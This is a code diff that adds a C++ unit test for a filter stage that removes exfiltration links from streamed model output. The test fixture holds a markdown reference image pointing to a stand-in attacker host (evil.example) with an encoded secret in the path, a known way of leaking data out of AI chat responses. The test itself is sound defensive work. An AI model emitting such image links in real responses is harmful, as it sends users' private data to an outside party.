@@ -290,6 +290,18 @@ TEST(ExfilLinksStageTest, StreamedLinkSplitAcrossPiecesIsRemovedEvenBeyondTheWin
   EXPECT_TRUE(ex.record.findings.empty());
 }
 
+TEST(ExfilLinksStageTest, StreamedReferenceImageDefinedLongAfterItsUseIsRemoved) {
+  Harness h;
+  ASSERT_TRUE(h.Build("[{type: exfil_links, config: {stream_window: 16}}]").ok());
+  auto ex = WithResponse(h, "");
+  std::string text =
+      "Look: ![chart][r] " + std::string(300, '.') + "\n[r]: https://evil.example/c2VjcmV0\nBye.";
+  std::string got = StreamThrough(h, ex, text, 5);
+  EXPECT_EQ(got.find("evil"), std::string::npos) << got;
+  EXPECT_NE(got.find("[link removed]\nBye."), std::string::npos) << got;
+  EXPECT_EQ(ex.record.findings.size(), 1u);
+}
+
 TEST(ExfilLinksStageTest, StreamedBlockEndsTheStream) {
   Harness h;
   ASSERT_TRUE(h.Build("[{type: exfil_links, config: {action: block}}]").ok());
